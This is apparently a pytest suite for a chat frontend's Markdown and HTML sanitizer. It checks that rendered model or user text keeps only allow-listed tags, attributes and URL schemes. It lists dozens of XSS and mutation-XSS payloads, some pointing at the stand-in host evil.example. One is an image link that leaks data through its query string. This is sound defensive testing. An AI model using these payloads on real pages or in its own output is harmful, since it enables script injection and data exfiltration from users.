"""Whatever a model writes, only allowed elements, attributes and addresses reach the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from frontends.render import MarkdownRenderer, StreamRenderer, user_html
from frontends.render.sanitize import Sanitizer

RENDERER = MarkdownRenderer()

HTML_TAGS = (
    "p br hr h1 h2 h3 h4 h5 h6 em strong s a blockquote ul ol li pre code span figure figcaption button div table "
    "thead tbody tr th td sub sup kbd mark input"
)
MATH_TAGS = (
    "math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mmultiscripts "
    "mprescripts mtable mtr mtd mstyle mpadded mphantom"
)
MATH_ATTRIBUTES = (
    "class dir mathcolor mathbackground "
    "display displaystyle scriptlevel mathvariant mathsize stretchy fence separator form lspace rspace minsize maxsize "
    "movablelimits symmetric accent accentunder linethickness width height depth voffset notation columnalign "
    "columnspacing columnlines rowalign rowspacing rowlines frame"
)
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in HTML_TAGS.split()},
    **{tag: set(MATH_ATTRIBUTES.split()) for tag in MATH_TAGS.split()},
    **{tag: {"class"} for tag in ("span", "sup")},
    **{tag: {"class", "dir"} for tag in ("code", "pre", "div", "figure", "th", "td", "li")},
    **{tag: {"dir"} for tag in ("p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "table")},
    "input": {"type", "checked", "disabled"},
    "a": {"href", "target", "rel"},
    "ol": {"start", "dir"},
    "button": {"class", "type", "data-copy", "aria-label"},
}

MARKDOWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](https://a.example \"t' onmouseover='alert(1)\")",
    "[x](https://a.example/\" onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://evil.example/leak?q=secret)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "```\"><img/src=x/onerror=alert(1)>\ncode\n```",
    "```python\" onclick=\"alert(1)\ncode\n```",
    "~~~</span><script>alert(1)</script>\ncode\n~~~",
    "```html\n<script>alert(1)</script>\n</code></pre></figure><script>alert(2)</script>\n```",
    "<button type=submit class=copy data-copy='x' onclick=alert(1)>copy</button>",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\text{&amp;lt;script&amp;gt;alert(1)}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{copy}{x}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$",
    "$\\textcolor{red\" onclick=\"alert(1)}{x}$",
    "$\\textcolor[HTML]{url(https://evil.example)}{x} \\colorbox{#fff;background:url(//evil.example)}{y}$",
    "$\\tag{<img src=x onerror=alert(1)>} \\label{\" onclick=\"alert(1)} \\ce{<img src=x onerror=alert(1)>}$",
    "$\\begin{array}{c\" onclick=\"alert(1)}x\\end{array} \\operatorname{<img src=x onerror=alert(1)>}$",
    "https://a.example/\"onmouseover=\"alert(1) https://a.example/'><img/src=x/onerror=alert(1)> x@a.example\"onclick=",
    "<sub onclick=alert(1)>x</sub> <kbd/onclick=alert(1)>x</kbd> <mark><img src=x onerror=alert(1)></mark>",
    "x[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: y",
    "- [x] <input type=image src=x onerror=alert(1)>",
    "$\\verb|<script>alert(1)</script>|$",
    "$<script>alert(1)</script>$",
    "$$\n</math><img src=x onerror=alert(1)>\n$$",
    "\\[\n\\text{</mtext></math><script>alert(1)</script>}\n\\]",
    "\\(\\unknown<img src=x onerror=alert(1)>\\)",
    "$$\n<script>alert(1)</script>",
    "\\begin{align}</math><svg onload=alert(1)>\\end{align}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<br onload=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<x\0 onclick=alert(1)>",
    "<plaintext>",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "*<img src=x onerror=*alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]  # fmt: skip

HTML = [
    "<b onclick=alert(1)>x</b><p style='position:fixed' id=x class=evil>y</p>",
    "<button type=submit class='copy evil' data-copy='x' formaction=javascript:alert(1)>c</button>",
    "<math><mi href=javascript:alert(1) xlink:href=javascript:alert(1) onclick=alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><mglyph><malignmark></mglyph><style></math><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<a href='java\tscript:alert(1)' target=_self rel=opener>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a><a href='/relative'>y</a><a href='#z'>z</a>",
    "<input type=image src=https://evil.example onclick=alert(1) name=x><li class='task evil' dir=evil>x</li>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div class='table evil'><span class='k evil' data-x=1>x</span></div><td background=https://evil.example>",
]


class Inspector(HTMLParser):
    """Notes whatever is not allowed, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.bad.append(f"{tag}[{name}]")
            if name == "href" and urlsplit(value or "").scheme not in ("http", "https", "mailto"):
                self.bad.append(f"{tag}[href={value}]")
            if name == "type" and value != ("checkbox" if tag == "input" else "button"):
                self.bad.append(f"{tag}[type={value}]")
            if name == "dir" and value not in ("auto", "ltr"):
                self.bad.append(f"{tag}[dir={value}]")
            if name == "mathcolor" and not re.fullmatch("#[0-9a-fA-F]{6}", value or ""):
                self.bad.append(f"{tag}[mathcolor={value}]")
            if name == "class" and "evil" in (value or ""):
                self.bad.append(f"{tag}[class={value}]")
        if tag == "a" and dict(attrs).get("target") != "_blank":
            self.bad.append("a without target")
        if tag == "input" and ("type", "checkbox") not in attrs:
            self.bad.append("an input that is no checkbox")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.bad.append("a without rel")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"<?{data}>")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown(text: str) -> None:
    assert inspect(RENDERER.render(text)).bad == []
    assert inspect(user_html(text)).bad == []


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown_while_streaming(text: str) -> None:
    stream = StreamRenderer(RENDERER)
    for character in text:
        stream.append(character)
        assert [inspect(block.html).bad for block in stream.update() if inspect(block.html).bad] == []


@pytest.mark.parametrize("text", MARKDOWN)
def test_user_text_makes_no_elements(text: str) -> None:
    assert set(inspect(user_html(text)).tags) <= {"p", "br"}


@pytest.mark.parametrize("html", HTML)
def test_the_allow_list_alone_holds(html: str) -> None:
    """Even if the parser before it let everything through."""
    assert inspect(html).bad, "this payload would not test anything"
    assert inspect(Sanitizer().clean(html)).bad == []


@settings(deadline=None, max_examples=200)
@given(
    st.lists(st.sampled_from([*MARKDOWN, "\n", "`", "```", "$", "$$", "|", "> ", "- ", "**", "[", "]("]), max_size=6)
)
def test_payloads_mixed(parts: list[str]) -> None:
    assert inspect(RENDERER.render("".join(parts))).bad == []


def test_no_image_is_ever_shown() -> None:
    """A picture is fetched without a click, and tells its server what is in its address."""
    html = RENDERER.render("![a](https://evil.example/leak?q=secret)\n\n<img src=https://evil.example>")
    assert "img" not in inspect(html).tags
